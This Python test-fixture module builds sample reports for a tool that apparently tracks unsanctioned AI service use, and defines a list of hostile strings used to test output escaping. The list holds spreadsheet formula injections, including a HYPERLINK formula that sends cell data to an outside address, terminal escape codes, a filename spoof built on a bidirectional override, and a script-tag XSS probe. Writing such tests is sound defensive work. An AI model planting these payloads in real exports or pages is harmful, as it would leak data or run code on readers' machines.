"""Reports to write: a small one with everything in it, and hostile ones."""

from __future__ import annotations

from dataclasses import replace

from shadowai.model import Actor, Entry, Gap, Note, Origin, Report, SourceSummary, Usage, Verdict

CHAT = Entry(
    asset_id="00000000000000a1",
    service_id="openai-chatgpt",
    service="ChatGPT",
    vendor="OpenAI",
    category="assistant",
    actor=None,
    verdict=Verdict.PROHIBITED,
    confidence="confirmed",
    usage=Usage.BULK,
    users=2,
    devices=1,
    events=1200,
    blocked=3,
    bytes_up=12_345_678,
    bytes_down=None,
    first_seen=1_767_600_000_999_999,
    last_seen=1_767_686_400_000_000,
    active_days=2,
    sources=("dns.log", "proxy.log"),
    names=("chatgpt.com", "oaiusercontent.com", "chat.openai.com"),
    evidence=(Origin("proxy.log", 17), Origin("dump.pcapng", 42, "frame")),
    risk=70,
    risk_level="high",
    scopes=("files.read",),
    verdict_reason="not approved",
    verdict_owner="Ann Example",
)
UNKNOWN = replace(
    CHAT,
    asset_id="00000000000000b2",
    service_id="other",
    service="Other, the",
    vendor="",
    category="",
    verdict=Verdict.UNREVIEWED,
    confidence="unconfirmed",
    usage=None,
    users=0,
    devices=0,
    events=0,
    blocked=1,
    bytes_up=None,
    first_seen=None,
    last_seen=None,
    active_days=None,
    sources=(),
    names=(),
    evidence=(),
    risk=None,
    risk_level="",
    scopes=(),
    verdict_reason="",
    verdict_owner="",
)
SMALL = Report(
    entries=(CHAT, UNKNOWN),
    gaps=(Gap(Origin("fw.log"), "truncated line", 2, (Origin("fw.log", 3), Origin("fw.log", 9))),),
    notes=(Note(Origin("proxy.log"), "zone", "times taken as UTC", 40),),
    sources=(SourceSummary("proxy.log", "squid", 45, 43, 40, 1, 0, 2, 5),),
    signatures="2026.11.21",
)
BY_USER = replace(SMALL, entries=(replace(CHAT, actor=Actor("ann", None, "192.0.2.7"), users=1),), by="user")
EMPTY = Report(())

HOSTILE = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '  "=1',
    "\x00=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u200b=1",
    "a;=1",
    "a; \t=1",
    'x",=1',
    '=HYPERLINK("http://198.51.100.1/?"&A1)',
    "\x1b[31mred\x1b]0;title\x07",
    "\x9b31m",
    "two\nlines\r\nmore",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "nul\x00byte",
    "lone\udc80\ud800",
    "[bold red]markup[/] [link=http://198.51.100.1]x[/link] :smile:",
    "<script>alert(1)</script>",
    "x" * 10_000,
    "\u2028\u2029\x7f\x85\ufeff",
    "ＷＩＤＥ名前",
)
NUMBERS = range(len(HOSTILE))
"""Names for the tests of :data:`HOSTILE`, some of which are too long or too strange for one."""


def hostile(text: str) -> Report:
    """A report with ``text`` wherever a text comes from outside."""
    entry = replace(
        CHAT,
        asset_id=text,
        service_id=text,
        service=text,
        vendor=text,
        category=text,
        actor=Actor(text, text, text),
        confidence=text,
        sources=(text, text),
        names=(text, "plain.example", text),
        evidence=(Origin(text, text, "object"),),
        risk_level=text,
        scopes=(text,),
        verdict_reason=text,
        verdict_owner=text,
    )
    place = Origin(text, 1)
    return Report(
        (entry, replace(CHAT, actor=Actor("ann"))),
        (Gap(place, text, 1, (place,)),),
        (Note(place, text, text),),
        (SourceSummary(text, text),),
        "user",
        text,
    )
